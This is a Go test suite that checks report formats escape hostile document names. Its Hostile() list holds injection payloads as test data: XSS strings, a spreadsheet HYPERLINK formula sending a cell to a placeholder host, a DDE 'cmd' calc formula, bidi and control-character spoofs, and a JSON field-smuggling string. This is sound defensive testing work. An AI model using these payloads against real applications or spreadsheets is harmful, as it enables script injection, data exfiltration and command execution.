// Package reporttest is the conformance suite of formats: whatever a source calls its files and fields, a document
// stays a document. A format applies it in a few lines:
//
//	func TestConformance(t *testing.T) {
//		reporttest.Run(t, jsondoc.Format{}, skeleton)
//	}
package reporttest

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"iter"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"dossier/reports"
)

// Skeleton reduces what a format wrote to its structure: elements, records, tokens, but not their text. It returns an
// error where the output is not of its format, or text takes effect.
type Skeleton func(output []byte) (string, error)

const benign = "plainname"

// Run tests a format. It runs subtests in parallel.
func Run(t *testing.T, f reports.Format, skeleton Skeleton) {
	t.Helper()
	run(t, f, f, skeleton)
}

// RunPacked tests a format whose files are packed: what it wrote is looked at as unpack gives it.
func RunPacked(t *testing.T, f reports.Format, unpack func([]byte) ([]byte, error), skeleton Skeleton) {
	t.Helper()
	run(t, f, unpacked{f, unpack}, skeleton)
}

// unpacked writes what is in a format's files.
type unpacked struct {
	reports.Format
	unpack func([]byte) ([]byte, error)
}

func (u unpacked) Write(w io.Writer, d *reports.Document) error {
	var b bytes.Buffer
	if err := u.Format.Write(&b, d); err != nil {
		return err
	}
	out, err := u.unpack(b.Bytes())
	if err == nil {
		_, err = w.Write(out)
	}
	return err
}

// run tests f; seen is the same with output that can be looked at.
func run(t *testing.T, f, seen reports.Format, skeleton Skeleton) {
	t.Helper()
	t.Run("name and extension", func(t *testing.T) {
		t.Parallel()
		if !regexp.MustCompile(`^[a-z]+$`).MatchString(f.Name()) || !regexp.MustCompile(`^\.[a-z]+$`).MatchString(f.Extension()) {
			t.Errorf("name %q, extension %q", f.Name(), f.Extension())
		}
	})
	t.Run("a name is shown", func(t *testing.T) {
		t.Parallel()
		if !bytes.Contains(write(t, seen, Document(benign)), []byte(benign)) {
			t.Error("the document's text is not in the output")
		}
	})
	t.Run("same document, same bytes", func(t *testing.T) {
		t.Parallel()
		d := Document(benign)
		first := write(t, f, d)
		if !bytes.Equal(first, write(t, f, d)) || !bytes.Equal(first, write(t, f, Document(benign))) {
			t.Error("the output differs")
		}
	})
	t.Run("hostile names", func(t *testing.T) { t.Parallel(); hostileNames(t, seen, skeleton) })
	t.Run("rows that fail", func(t *testing.T) { t.Parallel(); failingRows(t, f) })
	t.Run("a writer that fails", func(t *testing.T) { t.Parallel(); failingWriter(t, f) })
	t.Run("next to nothing in it", func(t *testing.T) {
		t.Parallel()
		d := &reports.Document{Name: "empty", Title: benign, Main: "none", Sections: []reports.Section{{
			ID: "s", Title: benign, Tables: []reports.Table{{
				ID: "none", Title: benign, Empty: benign, Brief: 5, Columns: []reports.Column{{ID: "a", Title: "A"}},
				Rows: func(func([]reports.Cell, error) bool) {},
			}},
		}}}
		if _, err := skeleton(write(t, seen, d)); err != nil {
			t.Error(err)
		}
	})
}

func hostileNames(t *testing.T, f reports.Format, skeleton Skeleton) {
	t.Helper()
	want, err := skeleton(write(t, f, Document(benign)))
	if err != nil {
		t.Fatalf("a harmless document: %v", err)
	}
	for what, name := range Hostile() {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			out := write(t, f, Document(name))
			if at := acts(out); at >= 0 {
				t.Errorf("a character that acts at byte %d: %q", at, out[at:min(len(out), at+8)])
			}
			got, err := skeleton(out)
			if err != nil {
				t.Fatal(err)
			}
			if got != want {
				t.Errorf("the structure changes at %s", difference(got, want))
			}
		})
	}
}

// Hostile yields names that try to take effect, each under what it tries.
func Hostile() iter.Seq2[string, string] {
	return func(yield func(string, string) bool) {
		for _, h := range [][2]string{
			{"element", "<script>alert(1)</script>"},
			{"out of an attribute", `"><img src=x onerror=alert(1)>`},
			{"out of a quoted attribute", "' onmouseover='alert(1)"},
			{"out of the style", "</style><b>bold"},
			{"out of the title", "</title><h1>"},
			{"comment", "<!-- gone"},
			{"character data", "<![CDATA[ x ]]>"},
			{"entity", "&lt;b&gt; &#x202e;"},
			{"template", "{{.Title}} {{printf \"%s\" .}} ${x} %s %!d"},
			{"address", "javascript:alert(1)"},
			{"formula", `=HYPERLINK("http://example.invalid?"&A1,"x")`},
			{"formula with plus", "+cmd|' /C calc'!A0"},
			{"formula with minus", "-2+3"},
			{"formula with at", "@SUM(1+1)"},
			{"formula behind a tab", "\t=1+1"},
			{"formula behind a carriage return", "\r=1+1"},
			{"formula behind a NUL", "\x00=1+1"},
			{"formula behind a space", " =1+1"},
			{"formula behind a semicolon", "x;=1+1"},
			{"formula behind a quote", "\"=1+1"},
			{"formula in full width", "＝1+1"},
			{"record", "a\r\nb,c\n\"d\",\"\n"},
			{"quotes", `"a","b`},
			{"clears the screen", "\x1b[2J\x1b]0;title\x07"},
			{"eight-bit control", "\u009b31mred"},
			{"backspaces", "visible\b\b\b\b\b\b\bhidden"},
			{"right to left", "invoice\u202efdp.exe"},
			{"isolates", "\u2066a\u2069\u200e\u200f\u061c"},
			{"invisible", "a\u200bb\ufeffc\u00add"},
			{"line separators", "a\u2028b\u2029c\u0085d"},
			{"tag characters", "a\U000e0041\U000e0042"},
			{"broken UTF-8", "a\xff\xfe\xc3"},
			{"surrogates", "a\xed\xa0\x80b"},
			{"JSON", `","verdict":{"kind":"none"},"\`},
			{"combining", "a" + strings.Repeat("\u0301", 500)},
			{"very long", strings.Repeat("long-name/", 10_000)},
			{"very long without a break", strings.Repeat("é", 30_000)},
		} {
			if !yield(h[0], h[1]) {
				return
			}
		}
	}
}

// acts returns where a character stands that does more than being seen, -1 for nowhere. Line ends are the format's own.
func acts(out []byte) int {
	if !utf8.Valid(out) {
		return bytes.IndexFunc(out, func(r rune) bool { return r == utf8.RuneError })
	}
	plain := bytes.ReplaceAll(out, []byte("\r\n"), []byte(" \n"))
	return bytes.IndexFunc(plain, func(r rune) bool {
		if r < 0x7f {
			return r < ' ' && r != '\n'
		}
		return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp)
	})
}

var errBroken = errors.New("broken on purpose")

func failingRows(t *testing.T, f reports.Format) {
	t.Helper()
	tables := 0
	for _, s := range Document(benign).Sections {
		tables += len(s.Tables)
	}
	for n := range tables {
		d, asked, i := Document(benign), false, 0
		for _, s := range d.Sections {
			for j := range s.Tables {
				if i == n {
					rows := s.Tables[j].Rows
					s.Tables[j].Rows = func(yield func([]reports.Cell, error) bool) {
						asked = true
						for row, err := range rows {
							if !yield(row, err) {
								return
							}
						}
						yield(nil, errBroken)
					}
				}
				i++
			}
		}
		if err := f.Write(io.Discard, d); asked && !errors.Is(err, errBroken) {
			t.Errorf("table %d: its rows ended with an error, Write with %v", n, err)
		}
	}
}

func failingWriter(t *testing.T, f reports.Format) {
	t.Helper()
	size := len(write(t, f, Document(benign)))
	for _, n := range []int{0, 1, size / 2, size - 1} {
		if err := f.Write(&limited{n}, Document(benign)); !errors.Is(err, errBroken) {
			t.Errorf("the writer failed after %d of %d bytes, Write returned %v", n, size, err)
		}
	}
}

// limited takes so many bytes and then fails.
type limited struct{ left int }

func (l *limited) Write(p []byte) (int, error) {
	if len(p) > l.left {
		return l.left, errBroken
	}
	l.left -= len(p)
	return len(p), nil
}

func write(t *testing.T, f reports.Format, d *reports.Document) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := f.Write(&b, d); err != nil {
		t.Fatalf("writing a document: %v", err)
	}
	return b.Bytes()
}

func difference(got, want string) string {
	for i := range min(len(got), len(want)) {
		if got[i] != want[i] {
			return fmt.Sprintf("byte %d: %q, want %q", i, got[i:min(len(got), i+60)], want[i:min(len(want), i+60)])
		}
	}
	return fmt.Sprintf("the end: %d bytes, want %d", len(got), len(want))
}
